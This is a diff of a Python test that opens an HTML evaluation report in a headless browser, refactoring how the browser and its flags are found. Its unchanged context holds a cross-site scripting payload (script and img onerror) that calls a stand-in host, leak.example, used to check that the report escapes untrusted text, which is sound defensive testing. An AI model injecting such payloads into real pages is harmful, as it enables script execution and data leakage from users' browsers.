@@ -1,7 +1,6 @@
 """The page of `vcap evaluate -f html`, opened in a real browser without a screen."""
 
 import json
-import shutil
 import subprocess
 import threading
 from collections.abc import Iterator
@@ -11,9 +10,9 @@ from typing import Any
 
 import pytest
 
+from tests.browser import FLAGS, find_browser
 from tests.unit.reports.test_html import Reader
 
-BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
 EVIL = (
     "</td></table><script>document.title = 'owned'; fetch('http://leak.example/s')</script>"
     "<img src='http://leak.example/i' onerror=\"document.title = 'owned'\">"
@@ -30,10 +29,7 @@ PREDICTIONS = {"a": "a man is playing a guitar", "b": EVIL, "c": "a child is sin
 @pytest.fixture(scope="module")
 def browser() -> str:
     """A browser that can open a page without a screen."""
-    found = next(filter(None, map(shutil.which, BROWSERS)), None)
-    if found is None:
-        pytest.skip(f"none of {', '.join(BROWSERS)} is installed")
-    return found
+    return find_browser()
 
 
 @pytest.fixture
@@ -66,8 +62,7 @@ def seen(browser: str, network: tuple[str, list[str]], tmp_path: Path) -> Any:
 
     def open_page(path: Path) -> str:
         words = [
-            *(browser, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"),
-            *("--disable-background-networking", "--no-first-run", "--disable-dev-shm-usage"),
+            *(browser, *FLAGS, "--dump-dom"),
             *(f"--user-data-dir={tmp_path / 'profile'}", f"--proxy-server={network[0]}"),
             *("--proxy-bypass-list=<-loopback>", "--virtual-time-budget=2000", path.as_uri()),
         ]
